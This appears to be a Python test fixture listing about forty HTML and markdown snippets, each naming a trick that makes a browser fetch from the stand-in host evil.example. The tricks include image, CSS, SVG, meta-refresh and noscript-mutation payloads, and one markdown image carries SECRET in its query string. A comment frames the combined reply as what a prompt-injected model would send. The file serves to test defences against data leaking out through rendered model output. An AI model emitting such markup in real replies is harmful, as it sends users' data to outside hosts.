"""Model replies that try to make the browser fetch from another origin by themselves.

Each one names its trick; every URL points at FOREIGN so a test can tell a leak from the page's
own requests. Links a person clicks (<a href>) are not leaks and are left out on purpose.
"""

from __future__ import annotations

FOREIGN = "evil.example"
U = f"https://{FOREIGN}"

LEAKS: dict[str, str] = {
    "markdown image": f"![chart]({U}/md.png?q=SECRET)",
    "img src": f'<img src="{U}/img.png">',
    "img protocol-relative": f'<img src="//{FOREIGN}/pr.png">',
    "img srcset": f'<img src="/static/none.png" srcset="{U}/srcset.png 2x">',
    "img lowsrc": f'<img lowsrc="{U}/lowsrc.png">',
    "video src": f'<video src="{U}/v.mp4" autoplay></video>',
    "video poster": f'<video poster="{U}/poster.png"></video>',
    "video source": f'<video><source src="{U}/source.mp4" type="video/mp4"></video>',
    "audio src": f'<audio src="{U}/a.mp3" autoplay></audio>',
    "audio source and track": (
        f'<audio controls><source src="{U}/s.mp3"><track src="{U}/t.vtt" default></audio>'),
    "picture source srcset": f'<picture><source srcset="{U}/pic.png"><img alt="p"></picture>',
    "table background": f'<table background="{U}/table.png"><tr><td>x</td></tr></table>',
    "td background": f'<table><tr><td background="{U}/td.png">x</td></tr></table>',
    "body background": f'<body background="{U}/body.png">text</body>',
    "div background": f'<div background="{U}/div.png">x</div>',
    "style attribute url()": f'<div style="background-image:url({U}/style.png)">x</div>',
    "style element url()": (
        f"<style>@import url({U}/import.css); p{{background:url({U}/rule.png)}}</style><p>x</p>"),
    "object data": f'<object data="{U}/object.swf"></object>',
    "embed src": f'<embed src="{U}/embed.swf">',
    "iframe src": f'<iframe src="{U}/frame.html"></iframe>',
    "frame src": f'<frameset><frame src="{U}/frameset.html"></frameset>',
    "link stylesheet": f'<link rel="stylesheet" href="{U}/link.css">',
    "link prefetch": f'<link rel="prefetch" href="{U}/prefetch">',
    "link icon": f'<link rel="icon" href="{U}/favicon.ico">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={U}/refresh">',
    "base href": f'<base href="{U}/"><img src="relative.png">',
    "svg image href": f'<svg><image href="{U}/svg-image.png" width="9" height="9"/></svg>',
    "svg image xlink:href": (
        f'<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{U}/xlink.png"/></svg>'),
    "svg use href": f'<svg><use href="{U}/use.svg#a"/></svg>',
    "svg feImage": f'<svg><filter id="f"><feImage href="{U}/feimage.png"/></filter></svg>',
    "svg style": f"<svg><style>@import url({U}/svg-style.css);</style></svg>",
    "input image": f'<input type="image" src="{U}/input.png">',
    "script src": f'<script src="{U}/script.js"></script>',
    "noscript mutation": f'<noscript><p title="</noscript><img src={U}/noscript.png>"></noscript>',
    "details image": f'<details open><summary>s</summary><img src="{U}/details.png"></details>',
    "math xlink": f'<math><mi xlink:href="{U}/math">x</mi></math>',
    "form action autofocus": f'<form action="{U}/form"><input autofocus></form>',
    "anchor ping": f'<a href="https://example.org/" ping="{U}/ping">ping</a>',
    "spaced scheme": f'<img src=" {U}/spaced.png">',
}

# All of them in one reply, as a prompt-injected model would send them.
ALL_IN_ONE = "Here you go:\n\n" + "\n\n".join(LEAKS.values()) + "\n\nThe end.\n"
